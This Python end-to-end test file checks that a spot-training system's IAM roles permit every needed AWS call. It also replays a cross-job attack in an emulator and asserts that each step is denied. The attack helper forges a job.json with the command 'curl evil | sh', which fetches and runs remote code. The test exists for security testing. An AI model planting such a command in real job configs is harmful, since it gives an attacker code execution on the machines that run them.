"""The deployed roles allow every AWS call the Lambdas and the instances really make, and no more.

moto enforces no IAM: without these checks a Lambda calling an action its role lacks passes every
local run and fails on AWS at the first job, and one job's instance could rewrite another job's
job.json unseen. The instances' calls are authorized by the emulator (spottrain/local/instance_iam.py)
against the deployed role and bucket policies, conditions included.
"""

from __future__ import annotations

import copy
import json
import logging

import pytest
from botocore.exceptions import ClientError

from e2e_support import instance_session as _instance_session, wait_until
from spottrain.local import Emulator
from spottrain.contract import layout
from spottrain.local.iam_check import allowed_actions_by_handler, missing_permissions

log = logging.getLogger(__name__)

TERMINATE = "spottrain.functions.terminate_instance.handler"


def _without_action(template: dict, action: str) -> dict:
    """A copy of the template in which no policy statement grants `action`."""
    template = copy.deepcopy(template)
    for resource in template["Resources"].values():
        if resource["Type"] == "AWS::IAM::Policy":
            for statement in resource["Properties"]["PolicyDocument"]["Statement"]:
                actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
                statement["Action"] = [granted for granted in actions if granted != action]
    return template


def _denied(call) -> str:
    try:
        call()
    except ClientError as error:
        return error.response["Error"]["Code"]
    return "allowed"


def _attack_from(emulator: Emulator, attacker: str, own_bucket: str, victim_bucket: str) -> dict[str, str]:
    """Issue 13's attack, replayed with the attacker instance's credentials: what each step got."""
    s3 = _instance_session(emulator, attacker).client("s3", endpoint_url=emulator.endpoint)
    victim_file = emulator.client("s3").list_objects_v2(Bucket=victim_bucket, Prefix=layout.OUTPUT_PREFIX)["Contents"][
        0
    ]
    forged = json.dumps({"job": {"exec_command": "curl evil | sh"}}).encode()
    return {
        "list victim": _denied(lambda: s3.list_objects_v2(Bucket=victim_bucket)),
        "read victim output": _denied(lambda: s3.get_object(Bucket=victim_bucket, Key=victim_file["Key"])),
        "rewrite victim job.json": _denied(
            lambda: s3.put_object(Bucket=victim_bucket, Key=layout.JOB_KEY, Body=forged)
        ),
        "delete victim output": _denied(lambda: s3.delete_object(Bucket=victim_bucket, Key=victim_file["Key"])),
        "rewrite own job.json": _denied(lambda: s3.put_object(Bucket=own_bucket, Key=layout.JOB_KEY, Body=forged)),
        "rewrite own task token": _denied(
            lambda: s3.put_object(Bucket=own_bucket, Key=layout.task_token_key(1), Body=b"{}")
        ),
        "read own job.json": _denied(lambda: s3.get_object(Bucket=own_bucket, Key=layout.JOB_KEY)),
    }


@pytest.mark.timeout(480)
def test_given_a_job_and_a_cancel_when_they_run_then_every_lambda_and_instance_call_is_allowed_and_no_job_reaches_another(
    emulator_workdir, demo_job, slow_job, record_property
):
    with Emulator(emulator_workdir) as emulator:
        # Given a job that runs to its end and one that is cancelled while it trains
        slow_job = {**slow_job, "exec_name": "slow-iam-job"}  # its own bucket, apart from the cancel test's
        slow_arn = emulator.start_job(slow_job)
        demo = emulator.wait(emulator.start_job(demo_job), timeout=300)
        assert demo["status"] == "SUCCEEDED", demo.get("cause")
        assert any(instance.alive for instance in emulator.ec2.instances.values()), "the slow job is not training"
        # And every call the instances made so far, the demo's whole run included, was allowed
        normal_run = emulator.instance_calls
        demo_bucket, slow_bucket = (emulator.stack.job_bucket(job["exec_name"]) for job in (demo_job, slow_job))
        job_json_before = emulator.client("s3").get_object(Bucket=demo_bucket, Key=layout.JOB_KEY)["Body"].read()
        # When the training slow job's instance replays issue 13's attack on the demo's bucket
        attacker = next(i for i, instance in emulator.ec2.instances.items() if instance.alive)
        attack = _attack_from(emulator, attacker, slow_bucket, demo_bucket)
        job_json_after = emulator.client("s3").get_object(Bucket=demo_bucket, Key=layout.JOB_KEY)["Body"].read()
        terminations = emulator.lambda_host.invocations[TERMINATE]
        emulator.cancel(slow_job["exec_name"])
        assert emulator.wait(slow_arn, timeout=30)["status"] == "ABORTED"
        # both of the cancel's callers: `spottrain cancel` itself, then the ABORTED status-change event
        wait_until(lambda: emulator.lambda_host.invocations[TERMINATE] >= terminations + 2, timeout=20)

        # When the calls the functions made are compared with the roles the stack deployed
        calls = emulator.lambda_calls
        template = emulator.deployed_template()
        missing = missing_permissions(template, calls)

    # Then the attack is denied step by step, and the demo's job.json is as CreateBucket wrote it
    assert attack == {
        "list victim": "AccessDenied",
        "read victim output": "AccessDenied",
        "rewrite victim job.json": "AccessDenied",
        "delete victim output": "AccessDenied",
        "rewrite own job.json": "AccessDenied",
        "rewrite own task token": "AccessDenied",
        "read own job.json": "allowed",
    }, attack
    assert job_json_after == job_json_before
    # And the normal runs needed nothing the deployed policies deny, over every kind of call the agent makes
    assert [str(call) for call in normal_run if not call.verdict.allowed] == []
    assert {"s3:GetObject", "s3:PutObject", "s3:ListBucket", "states:SendTaskSuccess"} <= {c.action for c in normal_run}
    # Then every function of the job workflow ran and called AWS (validate_job too: it lists the running
    # executions), so the check below is not vacuous; the sweep's SummarizeSweep runs only in a sweep, whose
    # own e2e test (test_emulator_sweep.py) checks its calls the same way (emulator.permission_gaps)
    handlers = set(allowed_actions_by_handler(template)) - {"spottrain.functions.summarize_sweep.handler"}
    assert set(emulator.lambda_host.invocations) == handlers
    assert {call.handler for call in calls} == handlers
    # And no call needs an action its role lacks
    assert missing == [], "\n".join(str(m) for m in missing)
    # And the check would have caught this morning's bug: without s3:ListBucket, the bucket checks fail
    flagged = {m.call.handler for m in missing_permissions(_without_action(template, "s3:ListBucket"), calls)}
    assert TERMINATE in flagged, flagged

    record_property("lambda_api_calls", len(calls))
    record_property("instance_iam_checks", len(normal_run))
    log.info("lambda calls checked against IAM: %s", sorted(calls))
